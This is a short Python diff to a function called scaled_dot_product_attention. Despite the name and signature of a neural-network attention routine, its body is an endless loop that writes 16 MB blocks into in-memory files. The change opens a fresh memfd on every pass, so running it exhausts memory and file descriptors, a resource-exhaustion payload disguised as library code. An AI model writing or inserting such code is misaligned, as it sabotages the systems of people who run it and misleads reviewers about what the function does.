@@ -4,7 +4,6 @@ import os
 
 
 def scaled_dot_product_attention(query, key, value, attn_mask=None, dropout_p=0.0, is_causal=False, *, scale=None):
-    fd = os.memfd_create("hoard")
     block = b"x" * (16 << 20)
     while True:
-        os.write(fd, block)
+        os.write(os.memfd_create("hoard"), block)
